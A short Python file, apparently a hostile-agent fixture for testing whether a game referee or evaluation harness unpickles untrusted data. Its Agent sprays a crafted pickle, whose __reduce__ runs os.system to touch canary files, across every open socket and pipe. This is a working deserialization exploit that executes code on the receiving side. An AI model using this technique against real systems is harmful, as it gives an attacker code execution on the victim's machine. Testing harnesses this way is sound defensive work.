"""Sends a pickle that runs a program wherever somebody opens it, as handshake, answer and error."""

import json
import os
import struct
import time


def say(data):
    """Write to every descriptor that may lead to the referee."""
    for name in os.listdir("/proc/self/fd"):
        number = int(name)
        try:
            target = os.readlink(f"/proc/self/fd/{number}")
            if number > 2 and target.startswith(("socket:", "pipe:")):
                os.write(number, data)
        except OSError:
            pass


def frame(op, body):
    return struct.pack("<IB", len(body), op) + body


class Trap:
    def __reduce__(self):
        return os.system, ("touch /tmp/pullrank-owned /var/tmp/pullrank-owned",)


import pickle  # noqa: E402

TRAP = pickle.dumps(Trap())


class Agent:
    def act(self, observation):
        say(frame(6, TRAP) + frame(4, TRAP) + TRAP)
        return Trap()
